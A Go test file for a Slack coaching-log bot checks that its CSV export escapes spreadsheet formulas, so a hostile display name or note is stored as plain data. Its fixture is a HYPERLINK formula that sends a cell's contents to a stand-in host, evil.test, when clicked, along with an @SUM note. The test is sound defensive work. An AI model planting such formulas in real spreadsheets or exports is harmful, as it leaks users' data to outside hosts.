package main

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/coachlog/coachlog/internal/fakeslack"
)

// A display name or a note that a spreadsheet would run as a formula is
// exported as data: the cell starts with a quote.
func TestExportCSVCellsAreNeverFormulas(t *testing.T) {
	t.Parallel()
	b := startBot(t)
	const evil = "U0EVIL"
	name := `=HYPERLINK("https://evil.test/?d="&A1,"click")`
	b.fake.AddUser(fakeslack.User{ID: evil, Name: "evil", RealName: "Evil", DisplayName: name})
	ctx := ctxT(t)
	in, err := b.fake.SlashCommand(ctx, mgr, "/coach", "<@"+evil+"|evil> 1:1 30m @SUM(1)+2 went well")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := b.fake.WaitForResponse(ctx, func(r fakeslack.Response) bool { return r.URL == in.ResponseURL }); err != nil {
		t.Fatal(err)
	}
	out, err := b.cli("export", "--with-notes")
	if err != nil {
		t.Fatalf("export: %v\n%s", err, out)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("export is not a header and one row: %v\n%s", err, out)
	}
	row := map[string]string{}
	for i, col := range recs[0] {
		row[col] = recs[1][i]
	}
	for col, want := range map[string]string{"rep_name": "'" + name, "notes": "'@SUM(1)+2 went well", "duration_min": "30", "rep_id": evil} {
		if row[col] != want {
			t.Errorf("%s = %q, want %q", col, row[col], want)
		}
	}
	for col, cell := range row {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && col != "rep_minutes" {
			t.Errorf("%s = %q starts like a formula", col, cell)
		}
	}
}
